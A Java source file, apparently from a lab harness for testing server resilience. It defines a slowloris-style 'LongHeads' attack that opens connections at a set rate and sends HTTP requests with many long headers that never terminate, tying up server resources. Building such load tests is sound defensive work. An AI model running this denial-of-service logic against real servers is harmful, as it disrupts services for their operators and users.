package io.tcpwait.lab.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.net.InetSocketAddress;

/**
 * Requests with endless headers of many kilobytes, which a server has to keep meanwhile.
 *
 * @param perSecond new connections a second
 */
public record LongHeads(int perSecond) implements Attack {
  private static final int HEADERS = 30;
  private static final byte[] ENDLESS = head().getBytes(US_ASCII);

  private static String head() {
    StringBuilder head = new StringBuilder("GET /metrics HTTP/1.1\r\nHost: a\r\n");
    for (int i = 0; i < HEADERS; i++) {
      head.append("X-Header-").append(i).append(": ").append("y".repeat(500)).append("\r\n");
    }
    return head.toString();
  }

  @Override
  public String name() {
    return "long_heads_" + perSecond;
  }

  @Override
  public long run(InetSocketAddress target, int seconds) throws IOException, InterruptedException {
    return Held.atPace(target, perSecond, seconds, held -> held.open(ENDLESS));
  }
}
